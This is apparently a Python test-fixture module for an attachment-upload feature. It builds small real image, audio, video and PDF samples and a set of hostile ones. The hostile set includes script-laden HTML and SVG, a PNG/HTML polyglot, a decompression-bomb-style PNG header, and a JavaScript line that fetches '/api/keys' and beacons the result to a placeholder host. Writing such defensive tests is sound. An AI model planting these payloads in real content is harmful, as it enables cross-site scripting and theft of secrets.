"""Small real files of every attachment type, and hostile ones, for tests.

Images, WAV and PDF are built here; compressed audio and video are ffmpeg-made fixtures in
tests/fixtures/media/ (regenerate with its generate.sh).
"""

from __future__ import annotations

import io
import math
import random
import struct
import wave
import zlib
from pathlib import Path

from PIL import Image, ImageDraw

MEDIA = Path(__file__).resolve().parent.parent / "fixtures" / "media"


def image(
    pillow_format: str,
    *,
    size: tuple[int, int] = (48, 32),
    mode: str = "RGB",
    exif: dict[int, object] | None = None,
    **save_options: object,
) -> bytes:
    """A gradient with a mark in one corner (so rotation shows), saved as `pillow_format`."""
    width, height = size
    picture = Image.new(mode, size)
    draw = ImageDraw.Draw(picture)
    for x in range(width):
        shade = 255 * x // max(1, width - 1)
        draw.line([(x, 0), (x, height)], fill=(shade, 80, 255 - shade, 255)[: len(mode)])
    draw.rectangle([0, 0, width // 4, height // 4], fill=(255, 255, 0, 128)[: len(mode)])
    if exif:
        tags = Image.Exif()
        for tag, value in exif.items():
            tags[tag] = value
        save_options["exif"] = tags.tobytes()
    out = io.BytesIO()
    picture.save(out, format=pillow_format, **save_options)
    return out.getvalue()


def png(**options: object) -> bytes:
    return image("PNG", **options)


def jpeg(**options: object) -> bytes:
    return image("JPEG", **options)


def gif(**options: object) -> bytes:
    return image("GIF", **options)


def webp(**options: object) -> bytes:
    return image("WEBP", **options)


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (40, 30), color) for color in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def noise_jpeg(size: tuple[int, int] = (1600, 1200), *, seed: int = 1) -> bytes:
    """Random pixels: the worst case for a small preview."""
    noise = random.Random(seed).randbytes(size[0] * size[1] * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", size, noise).save(out, format="JPEG", quality=95)
    return out.getvalue()


def wav(seconds: float = 0.25, rate: int = 8000) -> bytes:
    frames = b"".join(
        struct.pack("<h", int(12000 * math.sin(2 * math.pi * 440 * i / rate)))
        for i in range(int(seconds * rate))
    )
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(rate)
        sound.writeframes(frames)
    return out.getvalue()


def pdf(text: str = "Hello") -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    content = f"BT /F1 24 Tf 20 50 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def media(name: str) -> bytes:
    return (MEDIA / name).read_bytes()


def mp3() -> bytes:
    return media("sine.mp3")  # with an ID3v2 tag, as most MP3s have


def mp3_without_tag() -> bytes:
    return media("sine-no-id3.mp3")  # starts straight with an MPEG audio frame


def ogg_opus() -> bytes:
    return media("sine-opus.ogg")


def ogg_vorbis() -> bytes:
    return media("sine-vorbis.ogg")


def m4a() -> bytes:
    return media("sine.m4a")


def mp4() -> bytes:
    return media("pattern.mp4")


def webm() -> bytes:
    return media("pattern.webm")


# name -> (builder, mime, kind) for every allowed type
ALLOWED_SAMPLES = {
    "png": (png, "image/png", "image"),
    "png_with_alpha": (lambda: png(mode="RGBA"), "image/png", "image"),
    "jpeg": (jpeg, "image/jpeg", "image"),
    "gif": (gif, "image/gif", "image"),
    "animated_gif": (animated_gif, "image/gif", "image"),
    "webp": (webp, "image/webp", "image"),
    "webp_lossless": (lambda: webp(lossless=True), "image/webp", "image"),
    "mp3": (mp3, "audio/mpeg", "audio"),
    "mp3_without_tag": (mp3_without_tag, "audio/mpeg", "audio"),
    "ogg_opus": (ogg_opus, "audio/ogg", "audio"),
    "ogg_vorbis": (ogg_vorbis, "audio/ogg", "audio"),
    "wav": (wav, "audio/wav", "audio"),
    "m4a": (m4a, "audio/mp4", "audio"),
    "mp4": (mp4, "video/mp4", "video"),
    "webm": (webm, "video/webm", "video"),
    "pdf": (pdf, "application/pdf", "pdf"),
}

IMAGE_SAMPLES = {
    name: build for name, (build, _, kind) in ALLOWED_SAMPLES.items() if kind == "image"
}


# Hostile samples


def html() -> bytes:
    """What an attacker would rename to photo.png."""
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script><rect width='10' height='10'/></svg>"
    )


def xml() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "boom">]><a>&x;</a>'


def javascript() -> bytes:
    return b"fetch('/api/keys').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));"


def png_html_polyglot() -> bytes:
    """A real PNG with an HTML page appended: a sniffing browser might render it as HTML."""
    return png() + b"<html><script>alert(document.domain)</script></html>"


def truncated_png() -> bytes:
    """A PNG header and half its data: detected as PNG, not decodable."""
    data = png(size=(200, 200))
    return data[: len(data) // 2]


def random_bytes(size: int = 4096, *, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(size)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming_size(width: int, height: int) -> bytes:
    """A valid PNG header for a huge image with almost no data: a decompression bomb's opening."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    row = b"\x00" + b"\x00" * 3 * min(width, 1000)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(row * 4))
        + _png_chunk(b"IEND", b"")
    )
